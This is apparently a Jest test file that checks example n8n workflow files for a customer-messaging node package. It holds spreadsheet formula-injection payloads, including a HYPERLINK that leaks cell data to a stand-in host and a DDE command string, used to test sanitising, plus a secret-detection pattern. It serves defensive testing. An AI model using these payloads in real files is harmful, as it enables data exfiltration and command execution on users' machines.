import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { runInNewContext } from 'node:vm';
import { type INode, type INodeParameters, type INodeProperties, NodeHelpers } from 'n8n-workflow';

import { CustomerMessaging } from '../../nodes/CustomerMessaging/CustomerMessaging.node';
import type { NodeJson, WorkflowJson } from '../../scripts/n8n/client';
import { examplesFolder } from '../../scripts/paths';

interface Placed extends NodeJson {
	parameters: INodeParameters;
	onError?: string;
}

interface Example extends WorkflowJson {
	nodes: Placed[];
	connections: Record<string, Record<string, Array<Array<{ node: string }> | null>>>;
}

const files = readdirSync(examplesFolder).filter((name) => name.endsWith('.json'));
const textOf = (file: string) => readFileSync(path.join(examplesFolder, file), 'utf8');
const { description } = new CustomerMessaging();

/** Their branches end with a message, an answer, a table, the node itself or a loop, and hold no place for more nodes. */
const withoutEnds = [
	'ai-agent-asks-before-it-sends.json',
	'ai-agent-messages-one-user.json',
	'announcement-with-preview-and-approval.json',
	'campaign-report-by-custom-request.json',
	'every-operation.json',
	'rows-claimed-in-postgres.json',
	'very-large-list-in-parts.json',
];

const isAccepted = {
	...{ leftValue: '={{ $json.outcome }}', rightValue: 'accepted' },
	operator: { type: 'string', operation: 'equals' },
};
const isNoTest = {
	...{ leftValue: '={{ $json.test }}', operator: { type: 'object', operation: 'notExists' } },
};

const isOurs = ({ type }: NodeJson) => type.startsWith('n8n-nodes-customer-messaging.');
const isStart = ({ type }: NodeJson) => /Trigger$|\.webhook$/.test(type);

test('The overview names each example', () => {
	const overview = textOf('README.md');
	for (const file of files) expect(overview).toContain(`](${file})`);
});

describe.each(files)('%s', (file) => {
	const text = textOf(file);
	const { nodes, connections, pinData = {} } = JSON.parse(text) as Example;
	const ofType = (ending: string) => nodes.filter(({ type }) => type.endsWith(ending));
	const notes = ofType('.stickyNote');
	const others = nodes.filter((node) => !notes.includes(node));
	const targetsOf = (name: string, output: number) =>
		(connections[name]?.main?.[output] ?? []).map(({ node }) => node);

	test('explains itself: what it is, how to try it, what to change', () => {
		const [about] = notes;
		expect(about?.name).toBe('About this workflow');
		expect(about?.parameters.content).toMatch(/^## /);
		expect(about?.parameters.content).toMatch(/credential|sandbox/);
		expect(notes.length).toBeGreaterThan(file === 'every-operation.json' ? 0 : 1);
	});

	test('every webhook address that a note names is that of a trigger', () => {
		const named = [...text.matchAll(/localhost:5678\/((?:webhook|form)\/[\w-]+)/g)];
		const own = others.filter(isStart).flatMap(({ parameters: { path: at, options } }) => {
			const ofForm = (options as { path?: string } | undefined)?.path;
			return ofForm ? `form/${ofForm}` : at ? `webhook/${at as string}` : [];
		});
		expect(named.map(([, address]) => address).sort()).toEqual(own.sort());
	});

	test('has unique names and ids, and leads to nodes that are there, after an error too', () => {
		for (const key of ['name', 'id'] as const)
			expect(new Set(nodes.map((node) => node[key])).size).toBe(nodes.length);
		const names = new Set(others.map(({ name }) => name));
		const outputs = Object.values(connections).flatMap((kinds) => Object.values(kinds).flat());
		const reached = outputs.flatMap((targets) => (targets ?? []).map(({ node }) => node));
		for (const name of [...Object.keys(connections), ...reached]) expect(names).toContain(name);
		const linked = new Set([...Object.keys(connections), ...reached]);
		expect(others.filter((node) => !isStart(node) && !linked.has(node.name))).toEqual([]);
		for (const { name, onError } of others)
			if (onError === 'continueErrorOutput') expect(targetsOf(name, 1)).toHaveLength(1);
	});

	test('does not wait forever for a person', () => {
		const waiting = others.filter(({ type, parameters }) =>
			type.endsWith('.wait') ? parameters.resume === 'form' : type.endsWith('.form'),
		);
		for (const { parameters } of waiting) expect(parameters.limitWaitTime).toBe(true);
		const asking = others.filter(isOurs).map(({ parameters }) => parameters);
		for (const parameters of asking.filter(({ operation }) => operation === 'sendAndWait'))
			expect(parameters).toHaveProperty('options.limitWaitTime.values.limitType');
	});

	test('runs its sample with the large Execute button, without an account elsewhere', () => {
		const elsewhere = others.filter(({ type }) => /\.(hubspot|googleSheets)/.test(type));
		const withSample = [...ofType('.webhook'), ...elsewhere].map(({ name }) => name);
		expect(Object.keys(pinData as object)).toEqual(withSample);
		const samples = others
			.map(({ parameters: { jsonOutput } }) => jsonOutput)
			.filter((sample) => typeof sample === 'string' && sample.startsWith('{'))
			.map((sample) => (JSON.parse(sample as string) as { body: object }).body);
		for (const { name } of ofType('.webhook')) {
			const [item] = (pinData as Record<string, [{ json: { body: object } }]>)[name] ?? [];
			expect(Object.keys(item?.json ?? {})).toEqual(['headers', 'params', 'query', 'body']);
			if (samples.length > 0) expect(samples).toContainEqual(item?.json.body);
		}
	});

	test('lets only what was accepted count as sent', () => {
		const next = others.filter(isOurs).flatMap(({ name }) => targetsOf(name, 0));
		const ends = others.filter(
			({ name, type }) => next.includes(name) && /\.(noOp|filter)$/.test(type),
		);
		for (const { type, parameters } of ends)
			expect([type, parameters.conditions]).toMatchObject([
				'n8n-nodes-base.filter',
				{ conditions: [isAccepted, isNoTest] },
			]);
		expect(ends.length === 0).toBe(withoutEnds.includes(file));
	});

	const hostile = {
		...{ '=SUM(1)': '=HYPERLINK("https://x.example/?"&A1)', name: "@SUM(1+1)*cmd|'/c calc'!A0" },
		...{ tab: '\t=1', return: '\r=1', line: '\n=1', minus: '-2+3', mobile: '+4915112345678' },
		...{ nested: { deep: ['=1', { more: '+1' }] }, number: -5, nothing: null, is: true },
	};
	const harmless = { quoted: 'a"=b', slash: 'c:\\', text: 'a = b', apostrophe: "'s", $: "$& $'" };
	const textsIn = (value: unknown): string[] =>
		typeof value === 'object' && value !== null
			? Object.entries(value).flatMap(([key, inside]) => [key, ...textsIn(inside)])
			: [value].filter((one) => typeof one === 'string');
	const rewrite = (name: string, $json: unknown): unknown => {
		const { parameters } = nodes.find((one) => one.name === name) ?? {};
		const code = (parameters?.jsonOutput as string).replace(/^=\{\{|\}\}$/g, '');
		return JSON.parse(runInNewContext(code, { $json }) as string);
	};

	test('writes no formula into a file, and reads it back as it was', () => {
		const writers = ofType('.convertToFile').filter(
			({ parameters: { operation = 'csv' } }) => operation !== 'toText',
		);
		for (const { name } of writers) {
			const before = Object.keys(connections).filter((one) => targetsOf(one, 0).includes(name));
			expect(before).toEqual(['No formulas']);
			const written = rewrite('No formulas', { ...hostile, ...harmless });
			expect(textsIn(written).filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
			expect(written).toMatchObject({ ...harmless, mobile: "'+4915112345678", number: -5 });
		}
		if (writers.length > 0 && ofType('.formTrigger').length > 0)
			expect(rewrite('Read the rows', rewrite('No formulas', { ...hostile, ...harmless }))).toEqual(
				{
					...hostile,
					...harmless,
				},
			);
	});

	test('leads back to an earlier node only in a loop, or after a page that waits for a person', () => {
		const loops = ofType('.splitInBatches').map(({ name }) => name);
		const pages = ofType('.form')
			.filter(({ parameters }) => parameters.operation !== 'completion')
			.map(({ name }) => name);
		const visit = (name: string, before: string[]) => {
			if (before.includes(name)) {
				const round = before.slice(before.indexOf(name));
				if (loops.includes(name) || round.some((passed) => pages.includes(passed))) return;
			}
			expect(before).not.toContain(name);
			for (const index of (connections[name]?.main ?? []).keys())
				for (const node of targetsOf(name, index)) visit(node, [...before, name]);
		};
		for (const { name } of others.filter(isStart)) visit(name, []);
	});

	test.each(others.filter(isOurs).map((node) => [node.name, node] as const))(
		'%s has only parameters that the node knows',
		(_name, { type, parameters: all }) => {
			// n8n adds these two parameters to every tool.
			const { descriptionType: _kind, toolDescription: _text, ...ofTool } = all;
			const parameters = type.endsWith('Tool') ? ofTool : all;
			const node = { type, typeVersion: 1, parameters } as INode;
			const { properties } = description;
			expect(NodeHelpers.getNodeParametersIssues(properties, node, description)).toBeNull();
			const shown =
				NodeHelpers.getNodeParameters(properties, parameters, true, false, node, description) ?? {};
			expect(Object.keys(shown)).toEqual(expect.arrayContaining(Object.keys(parameters)));
			for (const [name, value] of Object.entries(parameters)) {
				const visible = properties.find(
					(property) =>
						property.name === name &&
						NodeHelpers.displayParameter(parameters, property, node, description),
				);
				expect([name, visible && unknownOptions(visible, value)]).toEqual([name, []]);
			}
		},
	);

	test('holds no secret, no path of a machine, no environment and no address of others', () => {
		const secrets = 'brandId|apiKey|accessToken|x-api-key|authorization';
		for (const pattern of [
			/\$env|process\.env|\/(home|root|Users|tmp|work)\/|\b[A-Z]:\\|Bearer /,
			new RegExp(`"(${secrets})"|sandbox-(key|token|brand)"`),
		])
			expect(pattern.exec(text)).toBeNull();
		const kept = others.flatMap(({ credentials }) => Object.values(credentials ?? {}));
		for (const credential of kept) {
			expect(Object.keys(credential).sort()).toEqual(['id', 'name']);
			expect(credential.id).toMatch(/^sandbox-(api-key|partner-token)$/);
		}
		for (const [, host] of text.matchAll(/(?:https?:\/\/|@)([a-z0-9.-]+\.[a-z]+)/gi))
			expect(host).toMatch(/(^|\.)example\.com$/);
	});
});

describe('The list in parts counts', () => {
	const { nodes } = JSON.parse(textOf('very-large-list-in-parts.json')) as Example;
	const { assignments } = nodes.find(({ name }) => name === 'Count')?.parameters.assignments as {
		assignments: Array<{ name: string; value: string }>;
	};
	const code = assignments.find(({ name }) => name === 'leftOut')?.value ?? '';
	const ends = [
		{ user_id: 'U-1', outcome: 'accepted' },
		{ user_id: 'U-1', outcome: 'skipped' },
		{ userID: 'U-2', outcome: 'rejected' },
		{ userID: '', outcome: 'invalid' },
	];

	const rows = (...ids: string[]) => ids.map((userID) => ({ userID }));
	const read = rows('U-1', ' U-2', '');
	test.each([
		['nobody as left out where each row has an outcome', 0, read, ends],
		['those of a second list in the loop', 2, read, [...ends, ...rows('U-8', 'U-9')]],
		['those who were read and never came out', 1, [...read, ...rows('U-8', 'U-8')], ends],
	])('%s', (_, count, input, parts) => {
		const items: Record<string, object[]> = { 'Read the rows': input, Parts: parts };
		const $ = (name: string) => ({ all: () => items[name]?.map((json) => ({ json })) });
		expect(runInNewContext(code.replace(/^=\{\{|\}\}$/g, ''), { $ })).toBe(count);
	});
});

/** The chosen options and added fields that the form does not offer. */
function unknownOptions({ options = [], type, typeOptions }: INodeProperties, value: unknown) {
	if (typeof value === 'string' && value.startsWith('=')) return [];
	const offered = options.map((option) => ('value' in option ? option.value : option.name));
	const chosen = () => {
		if (type === 'options' && !typeOptions?.loadOptionsMethod) return [value as string];
		if (type === 'multiOptions') return value as string[];
		return /^(c|fixedC)ollection$/.test(type) ? Object.keys(value as object) : [];
	};
	return chosen().filter((one) => !offered.includes(one));
}
